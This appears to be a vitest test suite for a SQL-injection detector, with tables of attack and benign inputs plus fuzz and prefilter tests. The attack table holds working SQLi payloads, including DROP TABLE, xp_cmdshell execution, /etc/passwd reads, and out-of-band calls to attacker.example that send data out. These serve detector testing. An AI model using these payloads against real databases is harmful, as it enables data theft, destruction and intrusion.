import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyzeSqliUnfiltered, SQLI_MAX_INPUT, sqliDetector } from '../../src/detect/sqli.js';
import { sqliCannotMatch } from '../../src/detect/sqli/prefilter.js';
import { KEYWORDS } from '../../src/detect/sqli/lexer.js';
import { CONTENT_PROFILES, type ContentProfile, type Paranoia } from '../../src/detect/types.js';
import {
  ANY_PARANOIA,
  expectLinearOnNearMatches,
  expectParanoiaNeverLowersScore,
  expectPrefilterKeepsAttacks,
  expectPrefilterKeepsFound,
  expectWellFormedUnderFuzz,
  queryRunner,
  type Row,
} from './helpers.js';

const { run, fires } = queryRunner(sqliDetector);

const ATTACKS: Row[] = [
  // boolean / tautology, the three quote contexts
  { input: "' or 1=1--", expect: true },
  { input: "' OR '1'='1", expect: true },
  { input: "admin' or 'a'='a", expect: true },
  { input: '" or ""="', expect: true, note: 'double-quote context' },
  { input: 'x" or 1=1 #', expect: true },
  { input: "1') or ('a'='a", expect: true },
  { input: "1'))) and ((('x'='x", expect: true },
  { input: '1 or 1=1', expect: true, note: 'numeric context' },
  { input: '-1 OR 2>1', expect: true },
  { input: '1 and 1=2', expect: true },
  { input: "admin'--", expect: true, note: 'comment truncation after a quote' },
  { input: "admin')#", expect: true },
  { input: "x'/**/or/**/1=1/**/--", expect: true, note: 'comments as whitespace' },
  { input: "x'\tor\n1=1--", expect: true },
  { input: "x'\u00a0or\u00a01=1--", expect: true, note: 'no-break spaces' },
  { input: "' or true--", expect: true },
  { input: "' and unlikely(id)--", expect: true },
  { input: "'or'1'='1", expect: true, note: 'no spaces' },
  { input: '9999 or /*+hint*/ true', expect: true },
  // UNION
  { input: "' union select username, password from users--", expect: true },
  { input: '-1 UNION ALL SELECT NULL,NULL,@@version#', expect: true },
  { input: '1 union/**/select 1,2,3', expect: true },
  { input: "1' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -", expect: true, note: 'MySQL executable comment' },
  { input: "x' union select table_name from information_schema.tables--", expect: true },
  { input: "x' union select name from sqlite_master--", expect: true, note: 'SQLite' },
  { input: "24'union+all+select+1,2,3+from+aa", expect: true, note: 'undecoded + as space' },
  // stacked
  { input: "'; DROP TABLE users--", expect: true },
  { input: '1; delete from accounts', expect: true },
  { input: "1'; exec master..xp_cmdshell 'ping 10.0.0.1'--", expect: true, note: 'MSSQL' },
  { input: "1;declare @q varchar(99);set @q='x';exec(@q)", expect: true },
  { input: "1';insert into users values('a','b')--", expect: true },
  { input: "x'; shutdown--", expect: true },
  // time based
  { input: "1' and sleep(5)#", expect: true, note: 'MySQL' },
  { input: '1 and benchmark(5000000,md5(1))', expect: true },
  { input: "1'; select pg_sleep(5)--", expect: true, note: 'PostgreSQL' },
  { input: "1' || pg_sleep(10)--", expect: true },
  { input: "1'; waitfor delay '0:0:5'--", expect: true, note: 'MSSQL' },
  { input: "1 AND 1=dbms_pipe.receive_message('a',5)", expect: true, note: 'Oracle' },
  { input: "1' and 1=randomblob(500000000)--", expect: true, note: 'SQLite' },
  { input: 'sleep(5)', expect: true },
  { input: '(select (case when (1=1) then sleep(5) else 1 end))', expect: true },
  // error based
  { input: "1' and extractvalue(1,concat(0x7e,version()))--", expect: true },
  { input: "1' and updatexml(1,concat(0x7e,(select user())),1)--", expect: true },
  { input: "1' and 1=convert(int,(select @@version))--", expect: true, note: 'MSSQL convert' },
  { input: "1' AND 1=CAST((SELECT version()) AS int)--", expect: true, note: 'PostgreSQL cast' },
  { input: "1' and 1=ctxsys.drithsx.sn(1,(select user from dual))--", expect: true, note: 'Oracle' },
  { input: "x'||(select chr(65)||chr(66) from dual)||'", expect: true, note: 'Oracle || concat' },
  { input: "1' and '1'::int=1--", expect: true, note: 'PostgreSQL :: cast' },
  { input: 'unistr(password)::int', expect: true, note: 'PostgreSQL error-based cast of a call' },
  { input: "encode(lo_get(16400),'base64')::int", expect: true },
  // out of band
  { input: "1' union select load_file('/etc/passwd')--", expect: true },
  { input: "1' into outfile '/var/www/x.php'--", expect: true },
  { input: "1;exec master..xp_dirtree '\\\\attacker.example\\x'", expect: true },
  { input: "1' and utl_http.request('http://attacker.example/'||user)=1--", expect: true },
  // order by / misc grammar
  { input: "1' order by 3--", expect: true },
  { input: '1 ORDER BY 10#', expect: true },
  { input: '1) where 1=1 union all select 1,2--', expect: true },
  { input: "1' procedure analyse()--", expect: true },
  { input: '1,(select case when 1=1 then 1 else 1/0 end)', expect: true },
  { input: 'iif(1=2,1,1/0)', expect: true },
  { input: "1' rlike (select * from (select sleep(5))a)--", expect: true },
  { input: '1 in boolean mode) and 1=1#', expect: true },
  {
    input:
      '1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) = 70',
    expect: true,
  },
  { input: "OR '{\"a\":2}' -> '$.a' = 2", expect: true, note: 'JSON operator' },
  // identifier profile is strict
  { input: "abc' and 'x'='x", expect: true, profile: 'identifier' },
  { input: 'information_schema', expect: true, profile: 'identifier' },
  // free-text still catches clear breakouts
  { input: "nice product' union select password from users--", expect: true, profile: 'free-text' },
  { input: "x'; drop table users--", expect: true, profile: 'free-text' },
  // code: only a clear breakout
  { input: "' or 1=1--", expect: true, profile: 'code' },
  { input: "' GROUP BY a HAVING 1=1--", expect: true },
  { input: '1\u2019 OR \u20191\u2019=\u20191', expect: true, note: 'typographic quotes folded into quotes' },
  { input: 'DELETE FROM users;--', expect: true, note: 'whole statement closed by ; and a comment' },
  { input: 'O\u2019Brien', expect: false },
  { input: "'-'", expect: true, note: 'login-bypass probe: quote, operator, quote' },
  { input: "'LIKE'", expect: true },
  { input: "'-'", expect: false, profile: 'free-text' },
  // paranoia raises weak shapes
  { input: '1=1', expect: true, note: 'a true comparison of literals: a tautology probe' },
  { input: '11=1', expect: false, note: 'a false comparison: as common in documentation' },
  { input: '1=1', expect: true, paranoia: 3 },
  { input: '1--', expect: true, paranoia: 3 },
  // detect-a2: shapes added for blind / error-based extraction
  { input: "2010-01-01' sleep(20) '", expect: true, note: "'+sleep(20)+' after form decoding" },
  { input: 'x" benchmark(5000000,md5(1)) "', expect: true },
  { input: "admin' and email = all (select email)--", expect: true, note: 'quantified subquery' },
  { input: 'concat(0x3a,version(),0x3a)', expect: true, note: 'server fact read into a string builder' },
  { input: 'x=hex(user())', expect: true, paranoia: 1 },
  { input: "IF EXISTS (SELECT * FROM users WHERE name = 'root') BENCHMARK(1000000,MD5(1))", expect: true },
  { input: "SELECT 'qzxjq'||(SELECT (CASE WHEN 1=1 THEN 1 ELSE 0 END))", expect: true },
  { input: 'from information_schema.tables where 1=2 limit', expect: true, note: 'catalogue read' },
  {
    input: 'from(select count(*),concat(0x3a,(select user()),floor(rand(0)*2))x from t group by x)a',
    expect: true,
    note: 'error-based derived table',
  },
  { input: '/*!50000select*/ 1', expect: true, note: 'executable comment around a keyword' },
  { input: "OR '[1,2]' ?| array['1']", expect: true, note: 'PostgreSQL JSON operator' },
  { input: "1 or '{\"a\":1}' @? '$.a'", expect: true },
  { input: 'the information schema tables page', expect: false },
  // detect-sqli-crs: shape groups added for the CRS 942 gaps
  { input: "bob\\' or glob (a,a);", expect: true, note: 'SQLite pattern operator spelled as a call' },
  { input: "q' or tags notnull--", expect: true, note: 'postfix null test' },
  { input: "x' or arr[1] is not null--", expect: true, note: 'array subscript stays with its operand' },
  { input: '5,(case when 12=12 then 1 else null end)', expect: true, note: 'comma then a CASE conditional' },
  {
    input: '(select (case when (5=5) then (select count(*) from users u1, users u2) else 5 end))',
    expect: true,
  },
  {
    input: '2 rlike (select (case when (8=9) then 2 else 0x29 end))',
    expect: true,
    note: 'rlike stays binary',
  },
  { input: "'; select secret", expect: true, note: 'stacked statement keyword, even cut short' },
  { input: "'foo', 'x'='x'", expect: true, note: 'value list closed by a tautology' },
  { input: 'select benchmark', expect: true },
  { input: 'declare @cmd nvarchar(99)', expect: true, note: 'T-SQL variable declaration' },
  { input: 'set @q = 1', expect: true },
  { input: '2+session_user::int', expect: true, note: 'PostgreSQL error-based cast of a server fact' },
  { input: '\'{"k":1}\'::jsonb @> \'{"k":1}\'', expect: true, note: 'JSON literals compared' },
  { input: "'{\"k\":[1]}'::json #> '{k,0}'", expect: true, note: '#> is an operator here' },
  { input: '\'["x", "y"]\'::jsonb || \'["z"]\'', expect: true, note: 'JSON literal cast, then an operator' },
  { input: '1.e(user)', expect: true, note: 'MySQL empty exponent glued to a call' },
  { input: '1.e.columns', expect: true },
  { input: '5 or {x length(database())>1}', expect: true, note: 'ODBC-style {identifier expr}' },
  { input: '1 union distinctrow select 1,2', expect: true },
  { input: '@.:=(select 1) union distinctrow select @.', expect: true, note: 'dot-named user variable' },
  { input: "') AS x FROM users--", expect: true, note: 'column list closed, aliased, own FROM' },
  { input: '2) AS q FROM', expect: true },
  { input: 'user`;', expect: true, note: 'backtick identifier context' },
  { input: 'user`;', expect: false, profile: 'free-text' },
  { input: "' or zz!", expect: true, note: 'logic word right after a quote that opens the value' },
  { input: 'xor 7 >', expect: true },
  { input: 'sort=AND 3=3)', expect: true, note: 'embedded name=value (encoded separator)' },
  { input: ';replace tbl(id) values (1)', expect: true },
  { input: 'lo_get(42)', expect: true, note: 'PostgreSQL large-object read' },
  { input: "' isnull #", expect: true, note: 'postfix null test after a quote' },
  { input: "execute immediate 'drop table t'", expect: true, note: 'Oracle dynamic SQL' },
  { input: 'select 0x726f6f74', expect: true, note: 'hex-encoded string selected' },
  { input: 'please execute immediately', expect: false },
  { input: "print(f'{name}: {count}')", expect: false, paranoia: 3, note: 'braces of a template stay' },
  { input: 'fact :: Integer -> Integer', expect: false, paranoia: 3, note: 'a type signature, not a cast' },
  { input: '7 like 8', expect: false, note: 'a false comparison with a SQL operator: PL2' },
  { input: '7 like 8', expect: true, paranoia: 2 },
  { input: "'7' regexp '7'", expect: true, paranoia: 2 },
  // detect-sqli-pl1: shapes CRS blocks at its own paranoia 1
  { input: 'current_database(', expect: true, note: 'server-fact function as the whole value' },
  { input: 'Version()\n', expect: true },
  { input: 'msdb', expect: true, note: 'MSSQL system database' },
  { input: "'Select pwd", expect: true, note: 'quote closed, SELECT cut short' },
  { input: 'execute msdb.dbo.sp_help', expect: true, note: 'procedure of a system database' },
  { input: 'exec master.', expect: true },
  { input: '"qq"<>"zz', expect: true, note: 'strings compared, the last left to the app' },
  { input: "'k'='k", expect: true },
  { input: ')rlike(', expect: true, note: 'condition closed, another opened' },
  { input: ') or (', expect: false, note: 'logic words are not the SQL-only operators' },
  { input: 'CASE WHEN 5>3 THEN 1 ELSE 0 END', expect: true, note: 'blind conditional' },
  { input: "x' case when 1=1 then 'a' end", expect: true },
  { input: 'iif(7<', expect: true, note: 'blind conditional opening the value, cut short' },
  { input: "if('q'=", expect: true },
  {
    input: 'select k group by k having count(k) > 1',
    expect: true,
    note: 'one column, a clause, a SQL function',
  },
  { input: 'alter table `acct` modify `pw` varchar(9)', expect: true, note: 'full DDL clause' },
  { input: 'CREATE TABLE t1 (a int)', expect: true },
  { input: '|drop table staging', expect: true, note: 'punctuation, then DDL' },
  { input: '0unionallselect1', expect: true, note: 'keywords glued by a space-stripping filter' },
  { input: ';truncate logs', expect: true, note: 'MySQL TRUNCATE without TABLE' },
  { input: ';truncate[logs]', expect: true },
  { input: 'uid::bigint', expect: true, note: 'PostgreSQL cast of a column as the whole value' },
  { input: '"!"\n', expect: true, note: 'quote-operator probe with a trailing newline' },
];

const BENIGN: Row[] = [
  { input: 'Please select one option or the other', expect: false },
  { input: 'Please select one option or the other', expect: false, profile: 'free-text' },
  { input: "O'Reilly", expect: false },
  { input: "O'Brien", expect: false, profile: 'identifier' },
  { input: "don't stop, won't stop", expect: false },
  { input: "It's the union's choice: select a delegate or abstain", expect: false, profile: 'free-text' },
  { input: 'The Union selected its leaders and the members voted', expect: false },
  { input: '1-800-555-0199', expect: false },
  { input: '+1 (555) 010-9999', expect: false },
  { input: '2024-01-31', expect: false },
  { input: '2024-01-31--2024-02-02', expect: false },
  { input: "john.o'neil@example.com", expect: false },
  { input: 'https://example.com/search?q=select&order=desc#top', expect: false },
  { input: '{"name":"O\'Hara","tags":["a","b"],"n":1}', expect: false },
  { input: "['select', 'from', 'where']", expect: false },
  { input: 'getUserById', expect: false, profile: 'identifier' },
  { input: 'order_by_date', expect: false, profile: 'identifier' },
  { input: 'rock & roll', expect: false },
  { input: 'salt and pepper = tasty', expect: false },
  { input: '10 or 12', expect: false },
  { input: 'size 10 or 12, color "blue"', expect: false },
  { input: 'Tom\'s "best" offer -- final', expect: false },
  { input: 'background: "#FF5733"', expect: false },
  { input: 'Item #3 (of 10)', expect: false },
  { input: 'C:\\Program Files\\App', expect: false },
  { input: 'a || b', expect: false },
  { input: "he said 'yes' or 'no'", expect: false, profile: 'free-text' },
  { input: 'I need sleep (8 hours) and coffee', expect: false, profile: 'free-text' },
  { input: 'sleep (8 hours)', expect: false },
  { input: 'Drop table reservations for Friday? Call 555-0100.', expect: false, profile: 'free-text' },
  { input: 'vino rioja', expect: false },
  { input: 'c/ caridad s/n', expect: false },
  // detect-sqli-crs neighbours of the new shapes
  {
    input:
      "Our security training explains how a login form that concatenates user input can be abused when someone types name = '' or 1=1 into it, and why prepared statements stop that. Developers should review every query builder in the code base and remove string concatenation everywhere.",
    expect: false,
    note: 'prose about SQL injection is judged as free text',
  },
  { input: "Dunkin' or Starbucks", expect: false },
  { input: "'and then' he said", expect: false },
  { input: 'fe80::1', expect: false },
  { input: 'see item 1.e.g. above', expect: false },
  { input: '`npm install` or `yarn add`', expect: false },
  { input: 'Sold as is from our shop', expect: false },
  { input: 'price=12', expect: false },
  { input: '{name} or {title}', expect: false },
  { input: 'a=b&c=d', expect: false },
  { input: '12:30:45', expect: false },
  { input: 'tags[0]=red', expect: false },
  // detect-a2 neighbours of the new shapes
  { input: 'I work from home on version 2 of the app', expect: false },
  { input: 'tickets from sys.path and information about all tables', expect: false },
  { input: 'Please select one option or the other', expect: false, profile: 'identifier' },
  { input: 'Call version() to get the build, or user() for the login', expect: false },
  { input: "O'Reilly sleep(8) hours", expect: false, profile: 'free-text' },
  { input: 'is this your choice? or that one?', expect: false },
  { input: 'Which is better: all (or none)?', expect: false },
  { input: '/* keep this */ value', expect: false },
  { input: 'SELECT * FROM information_schema.tables WHERE table_schema = 1', expect: false, profile: 'code' },
  { input: "SELECT concat('v', version())", expect: false, profile: 'code' },
  { input: '/*!40101 SET NAMES utf8 */;', expect: false, profile: 'code' },
  { input: "data->>'name' ? 'a'", expect: false, profile: 'code' },
  // SQL in a code profile is legitimate
  { input: 'SELECT id, name FROM users WHERE active = 1 ORDER BY name', expect: false, profile: 'code' },
  {
    input: "SELECT * FROM t WHERE a = 'x' OR b = 'y'; DELETE FROM t WHERE id = 3;",
    expect: false,
    profile: 'code',
  },
  { input: 'cursor.execute("INSERT INTO example (name) VALUES (\'John\')")', expect: false, profile: 'code' },
  { input: 'if (a > b) { x = 1; } else { y = 2; }', expect: false, profile: 'code' },
  {
    input: 'int main() {\n  int x = 10;\n  if (x > 5) {\n    printf("big");\n  }\n}',
    expect: false,
    profile: 'free-text',
  },
  // detect-sqli-pl1 neighbours
  { input: 'user(s) and group(s)', expect: false },
  { input: 'Call version() to get the build', expect: false },
  { input: 'msdn library', expect: false },
  { input: "'Select one'", expect: false, note: 'a quoted label' },
  { input: 'execute the plan', expect: false },
  { input: 'exec summary', expect: false },
  { input: '"hello" - "world', expect: false, note: 'not a comparison' },
  { input: '(see above) like (this)', expect: false },
  { input: 'in case when the user logs in then call', expect: false },
  { input: 'if (x) then', expect: false },
  { input: 'select one where applicable', expect: false },
  { input: 'ok; select one where applicable', expect: false },
  { input: 'create table Persons', expect: false, note: 'a how-to search, no column list' },
  { input: 'alter table layout', expect: false },
  { input: '/create a table', expect: false, note: 'not a DDL statement' },
  { input: 'trade union selection', expect: false },
  { input: 'Done; truncate the list', expect: false },
  { input: 'Foo::Bar', expect: false },
  { input: '"?"', expect: false },
];

describe('sqli detector: table', () => {
  it.each([...ATTACKS, ...BENIGN])('$input ($profile, PL$paranoia) → $expect', (row) => {
    const got = fires(row.input, row.profile ?? 'generic', row.paranoia ?? 1);
    expect(got, row.note ?? row.input).toBe(row.expect);
  });

  it('reports a well-formed finding for an attack', () => {
    const value = "abc' UNION SELECT password FROM users--";
    const [f] = run(value);
    expect(f).toBeDefined();
    expect(f!.category).toBe('injection');
    expect(f!.subtype).toBe('sqli');
    expect(f!.detector).toBe('sqli');
    expect(f!.location).toBe('query.q');
    expect(f!.score).toBeGreaterThanOrEqual(0.85);
    expect(f!.severity).toBe('critical');
    expect(value).toContain(f!.fragment!);
    expect(f!.fragment!.toLowerCase()).toContain('union');
  });

  it('higher paranoia never lowers a score', () => expectParanoiaNeverLowersScore(sqliDetector, ATTACKS));

  it('identifier is stricter than generic, free-text looser', () => {
    const v = '1 order by 5';
    const g = run(v, 'generic')[0]?.score ?? 0;
    expect(run(v, 'identifier')[0]?.score ?? 0).toBeGreaterThanOrEqual(g);
    expect(run(v, 'free-text')[0]?.score ?? 0).toBeLessThan(g);
  });

  it('only inspects the start of a huge value', () => {
    const padding = 'a'.repeat(SQLI_MAX_INPUT);
    expect(fires("' or 1=1--")).toBe(true);
    expect(fires(`${padding} ' or 1=1--`)).toBe(false);
  });
});

describe('sqli detector: fuzz', () => {
  const profiles = fc.constantFrom<ContentProfile>(
    'generic',
    'identifier',
    'free-text',
    'url',
    'code',
    'markup',
  );
  const sqlish = fc
    .array(
      fc.constantFrom(
        "'",
        '"',
        '`',
        ' or ',
        ' and ',
        '1',
        '=',
        '--',
        '#',
        '/*',
        '*/',
        '/*!',
        '(',
        ')',
        ';',
        'union',
        'select',
        ' ',
        ',',
        '@@v',
        '0x41',
        'sleep(',
        'case when ',
        ' then ',
        'if(',
        'database(',
        'unionselect',
        'exec master.',
        '||',
        '::',
        '\\',
        '\n',
        'é',
        '\u0000',
      ),
      { maxLength: 40 },
    )
    .map((parts) => parts.join(''));

  it('never throws and returns well-formed findings', () => {
    expectWellFormedUnderFuzz(
      sqliDetector,
      {
        value: fc.oneof(fc.string({ maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 100 }), sqlish),
        profile: profiles,
        paranoia: ANY_PARANOIA,
      },
      {
        fixed: { location: 'body.$.x', source: 'body' },
        numRuns: 500,
        subtype: 'sqli',
        requireFragment: true,
      },
    );
  });
});

describe('sqli detector: adversarial input', () => {
  it.each([
    "' or 1=",
    '$(',
    '/*',
    '((((',
    "'",
    '/*!',
    ' union select',
    '#\n',
    'case when ',
    'case when x then ',
    ')like(',
    'if(1=',
    'unionselect',
    'select x group by ',
    'a[',
    '[x]',
    '{x ',
    '1.e(',
    'x=',
    '::int ',
    '`;',
    "' or x ",
    ') as x from ',
    'word ',
  ])('1 MB of %j completes quickly', (unit) => {
    expectLinearOnNearMatches(sqliDetector, [unit], { where: { location: 'query.q' } });
  });
});

describe('sqli prefilter', () => {
  const LEVELS: Paranoia[] = [1, 2, 3];
  /** The full analysis (no prefilter) finds something at some profile and paranoia. */
  const anyFinding = (v: string) =>
    LEVELS.some((p) => CONTENT_PROFILES.some((prof) => analyzeSqliUnfiltered(v, prof, p) !== null));

  const keeps = (v: string) => !sqliCannotMatch(v);

  it('never skips an attack row of the table', () => expectPrefilterKeepsAttacks(keeps, ATTACKS, 50));

  it('never skips a row of the table that the full analysis scores', () =>
    expectPrefilterKeepsFound(keeps, [...ATTACKS, ...BENIGN], anyFinding));

  it('skips typical benign values: words, numbers, names, e-mails, sentences', () => {
    for (const v of [
      'shipping',
      '123456789',
      '19.99',
      "Pat O'Brien",
      'user123@example.com',
      'Jean-Luc Picard',
      'the customer asked about delivery, please call before noon.',
      'Thanks for the form, the gift is in the box and it is blue.',
      'true',
      '3f2b8c1e-9a4d-4e6f-8b21-7c5d0e9f1a23',
    ]) {
      expect(sqliCannotMatch(v), v).toBe(true);
      expect(anyFinding(v), v).toBe(false);
    }
  });

  it('keeps shapes that need the judge: logic words at the start, after a quote, before literals', () => {
    for (const v of [
      'or 1',
      'x or 1 like 1',
      'a b and 1 like 1',
      "a b' or x",
      'a b or not x',
      'a - b or x like 1',
      'use python',
      'order by 3',
      'x from information_schema.tables',
      '5union',
      "'-'",
      '1.e 1.e or x like 5',
      '1=1',
      '-1>0',
      'true=1',
      ' ~5<6',
      "x=1'",
      'a/*b',
      'x || y',
      '/x is y',
    ])
      expect(sqliCannotMatch(v), v).toBe(false);
  });

  it('skips nothing the full analysis would score (generated values)', () => {
    const words = [
      ...KEYWORDS,
      ...['and', 'or', 'xor', 'union', 'is', 'in', 'not', 'like', 'between', 'div', 'true', 'null'],
      ...['x', 'users', 'the', 'name', 'xp_cmdshell', 'information_schema', 'master', 'sysobjects'],
      ...['notnull', 'isnull', 'glob', 'distinctrow', 'current_user', 'int', 'jsonb', 'as', 'from'],
      ...['msdb', 'tempdb', 'xunionselect', 'unionallselectx', 'database', 'truncate', 'rlike'],
      ...['1', '42', '1e5', '0x1f', '3.5', '1.e', 'a1', '5or', '1union', 'unknown'],
      // whole-value fragments (./src/detect/sqli/fragment.ts)
      ...['concat', 'Count', 'having', 'when', 'then', 'values', 'execute', 'in', 'by', 'order', 'group'],
      ...['sp_executesql', 'msdasql', 'northwind', 'null', 'jsonb', '2.2250738585072011e-308', '1e309'],
      ...['4294967296', '-2147483649', 'ORder', 'cOnCaT', 'except', 'drop', 'where', 'limit'],
    ];
    const puncts = [' ', ' ', ' ', ',', '.', "'", '"', '@', '-', '--', '=', '(', ')', ';', '#', '/', '\t'];
    puncts.push(':', '?', '<', '>', '~', '!', '+', '*', '%', '|', '&', '[', '/*', '<=', '::', '||');
    puncts.push(']', '{', '}', '#>', '@>', '.e.', 'x=');
    puncts.push('<=>', '<>', '->', "''", "' '", '!=', '==', '`', '\\', '(', ')');
    const tok = fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...words) },
      { weight: 3, arbitrary: fc.constantFrom(...puncts) },
      { weight: 1, arbitrary: fc.constantFrom(...words).map((w) => w.toUpperCase()) },
    );
    let skipped = 0;
    fc.assert(
      fc.property(fc.array(tok, { minLength: 1, maxLength: 12 }), (parts) => {
        const v = parts.join('');
        if (!sqliCannotMatch(v)) return true;
        skipped++;
        return !anyFinding(v);
      }),
      { numRuns: 3000, seed: 11 },
    );
    // the property is not vacuous: plenty of generated values are skipped
    expect(skipped).toBeGreaterThan(300);
  });
});
